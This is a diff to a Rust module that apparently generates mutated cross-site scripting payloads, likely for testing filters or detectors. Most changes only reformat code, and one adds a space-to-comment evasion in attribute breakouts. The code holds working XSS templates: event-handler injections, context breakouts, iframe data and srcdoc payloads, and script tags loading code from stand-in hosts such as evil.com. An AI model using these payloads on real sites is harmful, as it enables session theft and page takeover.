@@ -20,7 +20,11 @@ pub static XSS_HTML: XssHtml = XssHtml;
 const HOSTS: &[(&str, &str, &[&str])] = &[
     ("img", "src=x", &["onerror"]),
     ("svg", "", &["onload"]),
-    ("body", "", &["onload", "onpageshow", "onfocus", "onhashchange"]),
+    (
+        "body",
+        "",
+        &["onload", "onpageshow", "onfocus", "onhashchange"],
+    ),
     ("input", "autofocus", &["onfocus", "onblur", "onfocusin"]),
     ("details", "open", &["ontoggle"]),
     ("video", "src=x", &["onerror", "onloadstart"]),
@@ -29,9 +33,27 @@ const HOSTS: &[(&str, &str, &[&str])] = &[
     ("marquee", "", &["onstart", "onfinish"]),
     ("select", "autofocus", &["onfocus"]),
     ("textarea", "autofocus", &["onfocus"]),
-    ("a", "href=#", &["onmouseover", "onclick", "onpointerenter", "onauxclick"]),
-    ("div", "", &["onmouseover", "onpointerover", "onwheel", "onanimationstart", "oncopy"]),
-    ("x", "contenteditable", &["onfocus", "onbeforeinput", "onkeydown"]),
+    (
+        "a",
+        "href=#",
+        &["onmouseover", "onclick", "onpointerenter", "onauxclick"],
+    ),
+    (
+        "div",
+        "",
+        &[
+            "onmouseover",
+            "onpointerover",
+            "onwheel",
+            "onanimationstart",
+            "oncopy",
+        ],
+    ),
+    (
+        "x",
+        "contenteditable",
+        &["onfocus", "onbeforeinput", "onkeydown"],
+    ),
     ("style", "", &["onload"]),
     ("object", "data=x", &["onerror"]),
     ("animate", "attributeName=x dur=1s", &["onbegin", "onend"]),
@@ -44,14 +66,38 @@ const URL_SLOTS: &[(&str, &str, &str)] = &[
     ("<form><button ", "formaction", ">x</button></form>"),
     ("<object ", "data", "></object>"),
     ("<embed ", "src", ">"),
-    ("<math><maction actiontype=statusline ", "xlink:href", ">click</maction></math>"),
-    ("<svg><a ", "xlink:href", "><text x=9 y=9>x</text></a></svg>"),
-    ("<svg><animate attributeName=href ", "values", "/><a><text>x</text></a></svg>"),
+    (
+        "<math><maction actiontype=statusline ",
+        "xlink:href",
+        ">click</maction></math>",
+    ),
+    (
+        "<svg><a ",
+        "xlink:href",
+        "><text x=9 y=9>x</text></a></svg>",
+    ),
+    (
+        "<svg><animate attributeName=href ",
+        "values",
+        "/><a><text>x</text></a></svg>",
+    ),
     ("<svg><set attributeName=href ", "to", "/></svg>"),
     ("<isindex type=image ", "action", ">"),
     ("<frameset><frame ", "src", ">"),
 ];
-const BREAKOUTS: &[&str] = &["\">", "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", "\"/>", "'\">", "</noscript>", ">"];
+const BREAKOUTS: &[&str] = &[
+    "\">",
+    "'>",
+    "</title>",
+    "</textarea>",
+    "</script>",
+    "-->",
+    "</style>",
+    "\"/>",
+    "'\">",
+    "</noscript>",
+    ">",
+];
 
 impl Family for XssHtml {
     fn name(&self) -> &'static str {
@@ -80,7 +126,12 @@ impl Family for XssHtml {
         };
         let (payload, layer) = transport_layer(rng, &payload);
         muts.push(layer);
-        Variant { family: self.name(), mutation: join(&muts), payload, carrier: Carrier::Value }
+        Variant {
+            family: self.name(),
+            mutation: join(&muts),
+            payload,
+            carrier: Carrier::Value,
+        }
     }
 }
 
@@ -145,7 +196,11 @@ fn event_handler(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> Strin
         out.push_str(&format!("id={}", rng.range(1, 999)));
         unquoted = true;
     }
-    out.push_str(if unquoted { *rng.pick(&[" ", "\t", "\n"]) } else { sep(rng, muts) });
+    out.push_str(if unquoted {
+        *rng.pick(&[" ", "\t", "\n"])
+    } else {
+        sep(rng, muts)
+    });
     out.push_str(&format!("{event}={value}"));
     if rng.chance(0.15) {
         // Left open: the page's own markup supplies the `>`.
@@ -163,9 +218,17 @@ fn script(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
     let close = name_case(rng, "script", muts);
     match rng.below(4) {
         0 => {
-            let host = format!("{}.{}", ["evil", "x", "attacker", "xss"][rng.below(4)], ["com", "rs", "io", "ht"][rng.below(4)]);
+            let host = format!(
+                "{}.{}",
+                ["evil", "x", "attacker", "xss"][rng.below(4)],
+                ["com", "rs", "io", "ht"][rng.below(4)]
+            );
             let src = *rng.pick(&["//", "https://", "http://", "\\\\"]);
-            format!("<{open}{}src={src}{host}/{}.js></{close}>", sep(rng, muts), rng.range(1, 999))
+            format!(
+                "<{open}{}src={src}{host}/{}.js></{close}>",
+                sep(rng, muts),
+                rng.range(1, 999)
+            )
         }
         1 => format!("<{open}{}src=data:,{js}></{close}>", sep(rng, muts)),
         2 => format!("<{open} type=text/javascript>{js}</{close}>"),
@@ -217,7 +280,10 @@ fn data_or_srcdoc(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> Stri
     match rng.below(4) {
         0 => {
             muts.push("data-url");
-            format!("<iframe src=\"data:text/html,{}\"></iframe>", inner.replace('"', "&quot;"))
+            format!(
+                "<iframe src=\"data:text/html,{}\"></iframe>",
+                inner.replace('"', "&quot;")
+            )
         }
         1 => {
             muts.push("data-url");
@@ -227,12 +293,23 @@ fn data_or_srcdoc(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> Stri
         }
         2 => {
             muts.push("srcdoc");
-            let escaped = if rng.chance(0.5) { inner.replace('<', "&lt;").replace('>', "&gt;") } else { inner };
-            format!("<iframe srcdoc=\"{}\"></iframe>", escaped.replace('"', "&quot;"))
+            let escaped = if rng.chance(0.5) {
+                inner.replace('<', "&lt;").replace('>', "&gt;")
+            } else {
+                inner
+            };
+            format!(
+                "<iframe srcdoc=\"{}\"></iframe>",
+                escaped.replace('"', "&quot;")
+            )
         }
         _ => {
             muts.push("style");
-            let css = if rng.chance(0.5) { format!("width:expression({js})") } else { format!("background:url(javascript:{js})") };
+            let css = if rng.chance(0.5) {
+                format!("width:expression({js})")
+            } else {
+                format!("background:url(javascript:{js})")
+            };
             format!("<div style=\"{}\">x</div>", css.replace('"', "'"))
         }
     }
@@ -249,7 +326,8 @@ fn attribute_breakout(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> 
     let extra = if needs.is_empty() { "autofocus" } else { needs };
     match rng.below(3) {
         0 => format!("{q} {event}={q}{js}"),
-        1 => format!("{q} {extra} {event}={js} x={q}"),
+        // Unquoted, the value ends at whitespace: comments stand in for spaces.
+        1 => format!("{q} {extra} {event}={} x={q}", js.replace(' ', "/**/")),
         _ => format!("x{q}{}{event}={q}{js}{q}", sep(rng, muts)),
     }
 }
